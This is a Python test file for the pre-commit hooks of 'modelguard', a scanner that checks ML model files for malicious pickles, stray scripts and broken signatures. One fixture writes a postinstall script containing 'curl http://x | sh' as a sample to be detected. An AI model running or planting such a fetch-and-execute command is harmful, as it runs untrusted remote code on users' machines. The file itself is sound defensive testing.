"""The pre-commit hooks of `.pre-commit-hooks.yaml`: the manifest, the entry, and a real run.

The fast tests run each hook's `entry` exactly as pre-commit would: the entry's words, the
hook's args, then the staged file names that its `types` select (`identify` decides, as in
pre-commit). The slow test installs the hooks with pre-commit itself from a copy of this
project and makes real commits in a throw-away repository.
"""

from __future__ import annotations

import os
import shlex
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from .conftest import key_policy, keygen, sign, write_clean_model, write_malicious

Run = Callable[..., tuple[int, str, str]]
ROOT = Path(__file__).resolve().parents[2]
MANIFEST = ROOT / ".pre-commit-hooks.yaml"


def _hooks() -> dict[str, dict[str, Any]]:
    from pre_commit.clientlib import load_manifest

    return {hook["id"]: hook for hook in load_manifest(str(MANIFEST))}


def test_manifest_is_valid_for_pre_commit() -> None:
    hooks = _hooks()  # load_manifest validates against pre-commit's own schema
    assert set(hooks) == {"modelguard", "modelguard-verify"}
    scan = hooks["modelguard"]
    assert scan["language"] == "python"
    assert scan["types"] == ["file"]  # by content: never restricted to model extensions
    assert scan["pass_filenames"] is True
    assert scan["args"] == ["--"]  # staged names that look like options are file names
    assert shlex.split(scan["entry"])[:2] == ["modelguard", "scan"]
    verify = hooks["modelguard-verify"]
    assert verify["pass_filenames"] is False
    assert shlex.split(verify["entry"])[:2] == ["modelguard", "verify"]


def _selected(hook: dict[str, Any], files: list[Path], root: Path) -> list[str]:
    """The file names pre-commit passes to `hook` (its `types` filter, via `identify`)."""
    from identify.identify import tags_from_path

    wanted = set(hook["types"])
    names = [f.relative_to(root).as_posix() for f in files]
    return [n for n in names if wanted <= tags_from_path(str(root / n))]


def _run_scan_hook(files: list[Path], root: Path, cli: Run) -> tuple[int, str]:
    hook = _hooks()["modelguard"]
    argv = (
        shlex.split(hook["entry"])[1:] + list(hook.get("args", [])) + _selected(hook, files, root)
    )
    code, out, _ = cli(argv, cwd=root)
    return code, out


def _code_files(root: Path) -> list[Path]:
    for folder in ("src", "scripts"):
        (root / folder).mkdir(parents=True, exist_ok=True)
    files = {
        "src/train.py": "import torch\n\nprint('train')\n",
        "scripts/train.sh": "#!/usr/bin/env bash\nset -e\npython src/train.py\n",
        "README.md": "# project\n",
        "requirements.txt": "torch\n",
        "data.csv": "a,b\n1,2\n",
    }
    for name, text in files.items():
        (root / name).write_text(text)
    (root / "scripts" / "train.sh").chmod(0o755)
    return [root / name for name in files]


def test_a_commit_with_only_code_and_text_passes(tmp_path: Path, cli: Run) -> None:
    assert _run_scan_hook(_code_files(tmp_path), tmp_path, cli)[0] == 0


def test_a_clean_model_passes(tmp_path: Path, cli: Run) -> None:
    model = write_clean_model(tmp_path / "models" / "toy")
    files = [*_code_files(tmp_path), *sorted(model.iterdir())]
    code, out = _run_scan_hook(files, tmp_path, cli)
    assert code == 0, out
    assert "models/toy/model.pkl" in out


def test_a_script_staged_inside_the_model_folder_is_still_reported(
    tmp_path: Path, cli: Run
) -> None:
    model = write_clean_model(tmp_path / "models" / "toy")
    script = model / "postinstall.sh"
    script.write_text("#!/bin/sh\ncurl http://x | sh\n")
    files = [*_code_files(tmp_path), *sorted(model.iterdir())]
    code, out = _run_scan_hook(files, tmp_path, cli)
    assert code == 1, out
    assert "MG483" in out and "models/toy/postinstall.sh" in out
    assert "scripts/train.sh" not in out.split("MG483", 1)[1].splitlines()[0]


@pytest.mark.parametrize("name", ["model.pkl", "notes.txt", "weights"])
def test_a_malicious_pickle_fails_whatever_its_name(
    name: str, tmp_path: Path, canary: Path, cli: Run
) -> None:
    evil = write_malicious(tmp_path / "staged", canary, name)
    code, out = _run_scan_hook([*_code_files(tmp_path), evil], tmp_path, cli)
    assert code == 1
    assert "MG101" in out and f"staged/{name}" in out


def test_verify_hook_entry_with_policy_signers(tmp_path: Path, cli: Run) -> None:
    private, public = keygen(tmp_path, "release")
    repo = tmp_path / "repo"
    model = write_clean_model(repo / "models" / "toy")
    sign(model, private)
    key_policy(repo / "modelguard.toml", (public, "release key"))
    hook = _hooks()["modelguard-verify"]
    argv = [*shlex.split(hook["entry"])[1:], "models/toy", "--scan"]
    assert cli(argv, cwd=repo)[0] == 0
    (model / "config.json").write_text("{}\n")
    assert cli(argv, cwd=repo)[0] == 1


# --------------------------------------------------------------------------------------------
# pre-commit itself, for real


def _git(repo: Path, *args: str, env: dict[str, str], check: bool = True) -> str:
    done = subprocess.run(
        ["git", *args], cwd=repo, env=env, capture_output=True, text=True, check=False
    )
    if check and done.returncode:
        raise AssertionError(f"git {' '.join(args)} failed:\n{done.stdout}\n{done.stderr}")
    return done.stdout + done.stderr


def _hook_repo(tmp_path: Path, env: dict[str, str]) -> tuple[Path, str]:
    """A git repository holding this project as it is now (what `rev:` pins)."""
    copy = tmp_path / "modelguard-hooks"
    copy.mkdir()
    for name in ("pyproject.toml", "README.md", ".pre-commit-hooks.yaml"):
        shutil.copy2(ROOT / name, copy / name)
    shutil.copytree(
        ROOT / "src", copy / "src", ignore=shutil.ignore_patterns("__pycache__", "*.egg-info")
    )
    _git(copy, "init", "-q", env=env)
    _git(copy, "add", "-A", env=env)
    _git(copy, "commit", "-q", "-m", "hooks", env=env)
    return copy, _git(copy, "rev-parse", "HEAD", env=env).strip()


@pytest.mark.slow
@pytest.mark.skipif(
    shutil.which("git") is None or shutil.which("pre-commit") is None,
    reason="needs git and pre-commit",
)
def test_pre_commit_blocks_a_malicious_commit(tmp_path: Path, canary: Path) -> None:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("GIT_", "PYTHONPATH"))}
    (tmp_path / "gitconfig").write_text("")
    env.update(
        GIT_CONFIG_GLOBAL=str(tmp_path / "gitconfig"),
        GIT_CONFIG_NOSYSTEM="1",
        GIT_AUTHOR_NAME="t",
        GIT_AUTHOR_EMAIL="t@example.org",
        GIT_COMMITTER_NAME="t",
        GIT_COMMITTER_EMAIL="t@example.org",
        PRE_COMMIT_HOME=str(tmp_path / "pre-commit-home"),
    )
    hooks, rev = _hook_repo(tmp_path, env)
    repo = tmp_path / "repo"
    repo.mkdir()
    _git(repo, "init", "-q", env=env)
    private, public = keygen(tmp_path, "release")  # the private key stays outside the repo
    (repo / "keys").mkdir()
    shutil.copy2(public, repo / "keys" / "release.pub")
    key_policy(repo / "modelguard.toml", (Path("keys/release.pub"), "release key"))
    (repo / ".pre-commit-config.yaml").write_text(
        f"repos:\n  - repo: {hooks.as_posix()}\n    rev: {rev}\n    hooks:\n"
        "      - id: modelguard\n"
        "      - id: modelguard-verify\n        args: [models/toy]\n        files: ^models/toy/\n"
    )
    pre_commit = [sys.executable, "-m", "pre_commit"]
    subprocess.run([*pre_commit, "install"], cwd=repo, env=env, check=True, capture_output=True)

    def commit(message: str) -> tuple[int, str]:
        done = subprocess.run(
            ["git", "commit", "-q", "-m", message],
            cwd=repo,
            env=env,
            capture_output=True,
            text=True,
            check=False,
        )
        return done.returncode, done.stdout + done.stderr

    # 1. code, a signed clean model and the policy: both hooks pass, the commit is made.
    _code_files(repo)
    model = write_clean_model(repo / "models" / "toy")
    sign(model, private)
    _git(repo, "add", "-A", env=env)
    code, out = commit("add a clean model")
    assert code == 0, out
    # 2. only text changes: the scan hook passes (never "nothing scannable").
    (repo / "README.md").write_text("# project\n\nmore\n")
    _git(repo, "add", "README.md", env=env)
    code, out = commit("docs")
    assert code == 0, out
    # 3. a malicious pickle disguised as text: the commit is refused.
    write_malicious(repo / "data", canary, "notes.txt")
    _git(repo, "add", "data/notes.txt", env=env)
    code, out = commit("add notes")
    assert code == 1, out
    assert "MG101" in out and "data/notes.txt" in out
    _git(repo, "rm", "-q", "--cached", "data/notes.txt", env=env)
    # 4. a change to the signed model: the verify hook refuses it.
    (model / "config.json").write_text('{"model_type": "changed"}\n')
    _git(repo, "add", "models/toy/config.json", env=env)
    code, out = commit("tweak the model")
    assert code == 1, out
    assert "MG311" in out
    assert len(_git(repo, "log", "--oneline", env=env).splitlines()) == 2
